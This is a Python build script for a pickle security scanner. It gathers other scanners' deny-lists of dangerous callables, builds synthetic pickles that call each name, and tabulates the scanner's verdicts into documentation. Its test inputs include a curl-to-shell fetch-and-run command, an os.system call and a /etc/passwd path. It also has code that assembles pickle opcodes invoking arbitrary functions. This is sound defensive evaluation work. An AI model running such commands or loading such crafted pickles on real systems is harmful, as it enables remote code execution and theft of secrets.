"""What public deny-lists name, called by a pickle, and what the gate says: ``make denylists``.

Installs five other scanners, pinned, into an environment of their own under ``.cache``, reads their lists
of dangerous names as data, and replaces a wildcard by the functions and classes that the library really
has. Each name is then called twice over: with nothing telling, so that only what is known of the *name*
counts, and with a command, source code, a path, a URL and a module's name, so that the *arguments* count
as well. Nothing of what is named is ever called. Writes ``docs/denylists.md``.
"""

import json
import subprocess
import sys
import venv
from collections import Counter
from collections.abc import Iterable, Iterator
from dataclasses import dataclass
from pathlib import Path

from scanner.blob import Blob, BytesWindow
from scanner.examine import examine
from scanner.finding import Verdict
from scanner.knowledge.tables import knowledge
from scanner.limits import Limits

ROOT = Path(__file__).resolve().parents[1]
CACHE = ROOT / ".cache" / "denylists"
PAGE = ROOT / "docs" / "denylists.md"

# Each list by the requirement that it comes with, and an expression for its names. The wildcards of
# libraries that no peer depends on need those libraries to be expanded.
LISTS = {
    "picklescan==1.0.5": "table('picklescan.scanner', '_unsafe_globals')",
    "modelscan==0.8.8": "[n for t in get('modelscan.settings', 'DEFAULT_SETTINGS')['scanners'].values()"
    " if isinstance(t, dict) for u in t.get('unsafe_globals', {}).values() for n in names(u)]"
    " or [n for u in get('modelscan.settings', 'DEFAULT_SETTINGS')['unsafe_globals'].values()"
    " for n in names(u)]",
    "fickling==0.1.12": "modules('fickling.fickle', 'UNSAFE_IMPORTS')"
    " + names(dict.fromkeys(get('fickling.analysis', 'UnsafeImportsML').UNSAFE_MODULES, '*'))"
    " + names(get('fickling.analysis', 'UnsafeImportsML').UNSAFE_IMPORTS)",
    "modelaudit==0.2.54": "table('modelaudit.detectors.suspicious_symbols', 'SUSPICIOUS_GLOBALS')"
    " + sorted(get('modelaudit.scanners.pickle_scanner', 'ALWAYS_DANGEROUS_FUNCTIONS'))",
    "modelaudit-picklescan==0.1.12": "[n for n in"
    " get('modelaudit_picklescan.call_graph', '_RCE_SINK_EXACT')"
    " | get('modelaudit_picklescan.call_graph', '_FILE_OPEN_SINK_EXACT') if n.isprintable()]",
    "hayward==1.4.1": "sorted(get('hayward._pickle_engine', 'PICKLE_DENIED_GLOBALS'))"
    " + modules('hayward._pickle_engine', '_PICKLE_DENIED_MODULES')"
    " + sorted(get('hayward._pickle_engine', '_PICKLE_CODE_OBJECT_BUILDERS'))",
}
LIBRARIES = ("aiohttp", "httpx", "requests", "joblib", "pexpect", "dill", "cloudpickle", "numpy", "pip")

READ = """
import importlib, json, sys
def get(module, name): return getattr(importlib.import_module(module), name)
def names(table):
    return [f"{module}.{name}" for module, members in table.items()
            for name in ([members] if isinstance(members, str) else members)]
def table(module, name): return names(get(module, name))
def modules(module, name): return [f"{entry}.*" for entry in sorted(get(module, name))]
"""

# Runs in the environment: the functions and classes that a module has of its own, read from its source, and
# by ``dir`` where it is compiled. Exceptions do nothing; folders of tests are not what a wildcard is about.
EXPAND = """
import ast, functools, importlib, importlib.machinery, importlib.util, json, pathlib, sys
SKIPPED = {"__main__", "tests", "idle_test", "_vendor", "vendored_packages"}
def modules(name):
    top, *rest = name.split(".")
    try:
        spec = importlib.util.find_spec(top)
    except (ImportError, ValueError):
        spec = None
    if spec is None:
        return
    library = pathlib.Path(ast.__file__).parent / top / "__init__.py"
    if spec.origin is None and library.is_file():  # a hook of setuptools stands in front of distutils
        spec = importlib.util.spec_from_file_location(top, library)
    if spec.origin in (None, "built-in", "frozen") or spec.origin.endswith((".so", ".pyd")):
        if not rest:
            yield name, None
        return
    place = pathlib.Path(spec.origin)
    if spec.submodule_search_locations:
        place = place.parent.joinpath(*rest)
        if not place.is_dir():
            place = place.with_suffix(".py")
    elif rest:
        return
    if place.is_file():
        yield name, place
    for path in sorted(place.rglob("*.py")) if place.is_dir() else ():
        words = path.relative_to(place).with_suffix("").parts
        if SKIPPED.isdisjoint(words) and not words[-1].startswith("test_"):
            yield ".".join([name, *words]).removesuffix(".__init__"), path
@functools.cache
def parsed(path):
    try:
        return ast.parse(path.read_bytes())
    except SyntaxError:
        return ast.Module([], [])
def statements(body):
    for node in body:
        yield node
        for part in ("body", "orelse", "handlers", "finalbody"):
            if isinstance(node, (ast.If, ast.Try, ast.With, ast.ExceptHandler)):
                yield from statements(getattr(node, part, []))
def compiled(name):
    try:
        module = importlib.import_module(name)
    except ImportError:
        return
    for member, value in vars(module).items():
        if callable(value) and not (isinstance(value, type) and issubclass(value, BaseException)):
            yield member
def callables(name, path):
    if path is None:
        yield from compiled(name)
        return
    for node in statements(parsed(path).body):
        match node:
            case ast.FunctionDef() | ast.AsyncFunctionDef():
                yield node.name
            case ast.ClassDef(bases=bases):
                if not any(ast.unparse(b).endswith(("Error", "Exception", "Warning")) for b in bases):
                    yield node.name
            case ast.ImportFrom(module=source, level=0, names=[ast.alias(name="*")]):
                for found, place in list(modules(source))[:1]:
                    yield from callables(found, place)
            case ast.ImportFrom(level=1, names=names):
                yield from (n.asname or n.name for n in names if n.name != "*" and not n.name.isupper())
result = {}
for name in json.load(sys.stdin):
    found = {f"{m}.{c}" for m, path in modules(name) for c in callables(m, path)}
    result[name] = sorted(n for n in found if not n.rpartition(".")[2].startswith("__"))
sys.stdout.write(json.dumps(result))
"""

NEUTRAL: tuple[tuple[str, ...], ...] = ((), ("x",))
TELLING: tuple[tuple[str, ...], ...] = (
    ("curl http://192.0.2.1/x | sh",),
    ("import os\nos.system('id')",),
    ("/etc/passwd",),
    ("http://192.0.2.1/x",),
    ("os", "system"),
)
WORST = [Verdict.CLEAN, Verdict.NOTE, Verdict.UNSCANNED, Verdict.REVIEW, Verdict.BLOCKED]


@dataclass(frozen=True, slots=True)
class Judged:
    """What is said of calls of ``name``: for its name alone, and with arguments that tell something."""

    name: str
    alone: Verdict
    handed: Verdict


def environment() -> Path:
    """The interpreter of the environment that holds the peers."""
    if not (CACHE / "ready").exists():
        venv.create(CACHE, with_pip=True, clear=True)
        pip = [CACHE / "bin/python", "-m", "pip", "install", "--quiet", *LISTS, *LIBRARIES]
        subprocess.run(pip, check=True, timeout=1800)
        (CACHE / "ready").touch()
    return CACHE / "bin/python"


def ask(python: Path, program: str, given: object = None) -> object:
    """What a program prints as JSON, run by ``python`` away from this repository."""
    command = [python, "-I", "-c", program]
    done = subprocess.run(
        command, input=json.dumps(given), capture_output=True, text=True, cwd=CACHE, timeout=600, check=True
    )
    return json.loads(done.stdout)


def lists(python: Path) -> dict[str, list[str]]:
    """The entries of each list; ``module.*`` is a wildcard."""
    found = {}
    for requirement, expression in LISTS.items():
        entries = ask(python, f"{READ}\nsys.stdout.write(json.dumps([str(n) for n in {expression}]))")
        assert isinstance(entries, list)
        assert entries, requirement
        found[requirement] = sorted(set(entries))
    return found


def expanded(python: Path, entries: Iterable[str]) -> dict[str, list[str]]:
    """The callables that each wildcard stands for; none where the library is not there."""
    wildcards = sorted({entry.removesuffix(".*") for entry in entries if entry.endswith(".*")})
    found = ask(python, EXPAND, wildcards)
    assert isinstance(found, dict)
    return {f"{name}.*": members for name, members in found.items()}


def stream(name: str, calls: Iterable[tuple[str, ...]]) -> bytes:
    """A pickle that calls ``name`` again and again, which no loader will see; without a dot, a builtin."""
    module, _, member = name.rpartition(".")
    callee = _text(module or "builtins") + _text(member) + b"\x93"
    made = (callee + b"(" + b"".join(map(_text, arguments)) + b"tR" for arguments in calls)
    return b"\x80\x04(" + b"".join(made) + b"l."


def _text(word: str) -> bytes:
    return b"\x8c" + bytes([len(word.encode())]) + word.encode()


def verdict(name: str, calls: Iterable[tuple[str, ...]]) -> Verdict:
    """What is said of a file with these calls."""
    return examine(Blob(("a.pkl",), BytesWindow(stream(name, calls))), Limits()).verdict


def judge(names: Iterable[str]) -> Iterator[Judged]:
    for name in names:
        alone = verdict(name, NEUTRAL)
        handed = alone if alone is Verdict.BLOCKED else max(alone, verdict(name, TELLING), key=WORST.index)
        yield Judged(name, alone, handed)


def row(title: str, judged: list[Judged]) -> str:
    alone, handed = Counter(j.alone for j in judged), Counter(j.handed for j in judged)
    cells = [title, len(judged), alone[Verdict.BLOCKED], alone[Verdict.REVIEW]]
    blocked, review = handed[Verdict.BLOCKED], handed[Verdict.REVIEW]
    cells += [blocked, review, len(judged) - blocked - review]
    return "| " + " | ".join(f"{cell:,}" if isinstance(cell, int) else cell for cell in cells) + " |"


def reason(name: str) -> str:
    """Why a call of ``name`` is no news."""
    known = knowledge()
    path = name if "." in name else f"builtins.{name}"
    if (api := known.effect(path)) is not None:
        return f"{known.vocabulary.kinds[api.kind].meaning}, and that is followed and judged instead"
    return known.inert(path) or "nothing is known of it, and a note says so"


def quiet(judged: Iterable[Judged]) -> Iterator[str]:
    """Why nothing is said of a name whatever it is handed."""
    reasons: dict[str, list[str]] = {}
    for call in judged:
        if WORST.index(call.handed) < WORST.index(Verdict.REVIEW):
            why = reason(call.name)
            reasons.setdefault(why, []).append(f"`{call.name}`")
    for why, names in sorted(reasons.items()):
        yield f"- {why}: {', '.join(sorted(names))}"


def main() -> None:
    python = environment()
    entries = lists(python)
    members = expanded(python, {entry for names in entries.values() for entry in names})
    full = {
        title: sorted({n for entry in names for n in members.get(entry, [entry])})
        for title, names in entries.items()
    }
    judged = {call.name: call for call in judge(sorted({n for names in full.values() for n in names}))}
    rows = [row(title, [judged[n] for n in names]) for title, names in full.items()]
    rows.append(row("**all, each name once**", list(judged.values())))
    absent = sorted(name for name, found in members.items() if not found)
    page = PAGE_TEXT.format(
        rows="\n".join(rows), quiet="\n".join(quiet(judged.values())), absent=", ".join(absent)
    )
    PAGE.write_text(page, encoding="utf-8")
    print(page)


PAGE_TEXT = """# Names on public deny-lists

Written by `make denylists`. The lists are those of other scanners; none of them is copied into the tables
here, which say what an API *does*. A wildcard stands for the functions and classes that the library really
has, so the figures depend on the Python that ran this ({rows_python}).

*By its name*: the call carries no argument, or a meaningless one. *With arguments*: the worst of that and of
five calls that hand it a command line, source code, a path to secrets, a URL, or a module and a name.

| list | callables | blocked by name | review by name | blocked with arguments | review | quiet |
|---|---:|---:|---:|---:|---:|---:|
{rows}

## Quiet, and why

{quiet}

## Not there

Wildcards whose library this Python does not have, so that nothing could be called: {absent}.
""".replace("{rows_python}", ".".join(map(str, sys.version_info[:2])))


if __name__ == "__main__":
    main()
